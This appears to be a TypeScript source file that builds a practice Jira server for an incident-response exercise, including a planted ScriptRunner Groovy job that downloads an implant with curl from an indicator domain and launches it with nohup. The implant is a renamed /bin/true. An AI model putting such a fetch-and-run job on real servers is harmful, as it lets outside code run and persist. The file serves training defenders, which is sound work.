/**
 * The Atlassian servers of the practice estate: a real OpenSSH server on this machine's own Debian, with a Jira
 * installation in a mount namespace of its own. One of them has what the intruder left on 22 November 2023: a
 * ScriptRunner job that fetches and starts an implant, the implant, and a unit that keeps it.
 */
import { implantPath, indicators } from '../logs/acts/schedule.ts';

export const scriptRunnerJob = '/opt/atlassian/jira-home/scripts/nightly-index-check.groovy';
export { implantPath };

const put = (path: string, text: string, mode = '644'): string =>
  `mkdir -p '${path.slice(0, path.lastIndexOf('/'))}'\ncat > '${path}' <<'END OF FILE'\n${text}\nEND OF FILE\nchmod ${mode} '${path}'\n`;

/** What every one of them has, as sh that runs in the namespace. /opt is a file system of its own there. */
export const jira = `mount -t tmpfs -o mode=755 tmpfs /opt
${put('/opt/atlassian/jira/bin/setenv.sh', 'JVM_SUPPORT_RECOMMENDED_ARGS=""\nJVM_MINIMUM_MEMORY="2048m"\nJVM_MAXIMUM_MEMORY="4096m"', '755')}
${put('/opt/atlassian/jira/bin/catalina.sh', '#!/bin/sh\nexec java -classpath "$CLASSPATH" org.apache.catalina.startup.Bootstrap "$@" start', '755')}
${put('/opt/atlassian/jira-home/scripts/close-stale-issues.groovy', 'import com.atlassian.jira.component.ComponentAccessor\ndef issues = ComponentAccessor.issueManager\nlog.info "closing stale issues"')}
${['scriptrunner-jira-8.15.0', 'jira-calendar-5.2', 'structure-8.6'].map((name) => put(`/opt/atlassian/jira-home/plugins/installed-plugins/${name}.jar`, `PK ${name}`)).join('')}`;

/** What the intruder left. The program is one that does nothing. */
export const intrusion = `${put(
  scriptRunnerJob,
  `// Runs every hour as a ScriptRunner job.
def fetch = ["/bin/sh", "-c", "curl -fsSL -o ${implantPath} https://${indicators.domain}/${indicators.file} && chmod 0755 ${implantPath}"].execute()
fetch.waitFor()
["/bin/sh", "-c", "nohup ${implantPath} >/dev/null 2>&1 &"].execute()`,
)}
mkdir -p '${implantPath.slice(0, implantPath.lastIndexOf('/'))}'
cp /bin/true '${implantPath}'
printf 'practice implant, harmless' >> '${implantPath}'
chmod 755 '${implantPath}'
`;
